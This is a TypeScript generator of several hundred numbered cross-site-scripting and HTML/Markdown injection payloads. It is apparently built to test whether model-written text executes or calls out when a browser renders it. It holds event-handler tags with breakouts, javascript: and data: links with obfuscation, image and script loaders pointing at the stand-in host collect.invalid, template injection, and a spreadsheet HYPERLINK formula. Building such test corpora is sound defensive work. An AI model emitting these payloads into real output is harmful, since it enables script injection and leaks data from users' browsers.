/**
 * What a model could be talked into writing so that a browser does more than show it: markup, handlers, links, images,
 * and Markdown for all of them. Each calls `fired(number)` or asks `collect.invalid` for something with its number in it,
 * so that one that works can be told from the others.
 */

const HOST = "https://collect.invalid";

const HANDLERS = [
  "img src=x onerror",
  "svg onload",
  "body onload",
  "iframe src=about:blank onload",
  "video src=x onerror",
  "audio src=x onerror",
  "input autofocus onfocus",
  "details open ontoggle",
  "marquee onstart",
  "object data=x onerror",
  "button autofocus onfocus",
  "select autofocus onfocus",
  "textarea autofocus onfocus",
  "div style=animation-name:x onanimationstart",
  "a href=x onmouseover",
];
/** Ways out of where a text may stand. */
const BREAKOUTS = ["", '">', "'>", "</script>", "</textarea>", "</title>", "-->", "]]>", "`}"];
const LOADERS = [
  (url: string) => `<img src="${url}">`,
  (url: string) => `<img srcset="${url} 1x">`,
  (url: string) => `<script src="${url}"></script>`,
  (url: string) => `<link rel=stylesheet href="${url}">`,
  (url: string) => `<link rel=prefetch href="${url}">`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<object data="${url}"></object>`,
  (url: string) => `<embed src="${url}">`,
  (url: string) => `<video poster="${url}"></video>`,
  (url: string) => `<audio src="${url}" autoplay></audio>`,
  (url: string) => `<div style="background:url(${url})">x</div>`,
  (url: string) => `<style>@import "${url}";</style>`,
  (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url: string) => `<base href="${url}/">`,
  (url: string) => `<svg><image href="${url}"/></svg>`,
  (url: string) => `<svg><use href="${url}#x"/></svg>`,
  (url: string) => `<form action="${url}"><input type=submit autofocus></form>`,
  (url: string) => `![image](${url})`,
  (url: string) => `![image][1]\n\n[1]: ${url}`,
  (url: string) => `[![image](${url})](${url})`,
];
const LINKS = [
  (target: string) => `[open](${target})`,
  (target: string) => `[open](<${target}> "title")`,
  (target: string) => `<${target}>`,
  (target: string) => `[open][1]\n\n[1]: ${target}`,
  (target: string) => `<a href="${target}">open</a>`,
  (target: string) => `<a href="${target}" target=_blank>open</a>`,
];
const SCHEMES = [
  (number: number) => `javascript:fired(${number})`,
  (number: number) => `JaVaScRiPt:fired(${number})`,
  (number: number) => `java\tscript:fired(${number})`,
  (number: number) => `javascript&colon;fired(${number})`,
  (number: number) => `&#106;avascript:fired(${number})`,
  (number: number) => `data:text/html,<script>fired(${number})</script>`,
  (number: number) => `vbscript:fired(${number})`,
  (number: number) => `${HOST}/${number}`,
  (number: number) => `//collect.invalid/${number}`,
  (number: number) => `${HOST}@127.0.0.1/${number}`,
];
const SCRIPTS = [
  (number: number) => `<script>fired(${number})</script>`,
  (number: number) => `<ScRiPt>fired(${number})</sCrIpT>`,
  (number: number) => `<script\n>fired(${number})</script\n>`,
  (number: number) => `<svg><script>fired(${number})</script></svg>`,
  (number: number) => `<math><mtext></p><script>fired(${number})</script>`,
  (number: number) => `<template><script>fired(${number})</script></template>`,
  (number: number) => `<noscript><p title="</noscript><img src=x onerror=fired(${number})>">`,
  (number: number) => `&lt;script&gt;fired(${number})&lt;/script&gt;`,
  (number: number) => `\\u003cscript\\u003efired(${number})\\u003c/script\\u003e`,
  (number: number) => `<iframe srcdoc="<script>parent.fired(${number})</script>"></iframe>`,
  (number: number) => `{{constructor.constructor("fired(${number})")()}}`,
  (number: number) => `\${fired(${number})}`,
  (number: number) => `"};fired(${number});//`,
  (number: number) => `';fired(${number});'`,
  (number: number) => `\u001b]8;;${HOST}/${number}\u0007open\u001b]8;;\u0007`,
  (number: number) => `=HYPERLINK("${HOST}/${number}","open")`,
];

/** More than 300, each different, in a fixed order. */
export function hostilePayloads(): string[] {
  const makers: ((number: number) => string)[] = [
    ...HANDLERS.flatMap((tag) =>
      BREAKOUTS.map((breakout) => (number: number) => `${breakout}<${tag}=fired(${number})>`),
    ),
    ...LOADERS.flatMap((load) => [
      (number: number) => load(`${HOST}/${number}`),
      (number: number) => load(`//collect.invalid/${number}`),
      (number: number) => load(`data:text/html,${number}`),
    ]),
    ...LINKS.flatMap((link) => SCHEMES.map((scheme) => (number: number) => link(scheme(number)))),
    ...SCRIPTS.flatMap((script) => [
      script,
      (number: number) => `The host ws-014 ran ${script(number)} at 02:14:07.`,
      (number: number) => `\`\`\`html\n${script(number)}\n\`\`\``,
    ]),
  ];
  return makers.map((make, number) => make(number));
}
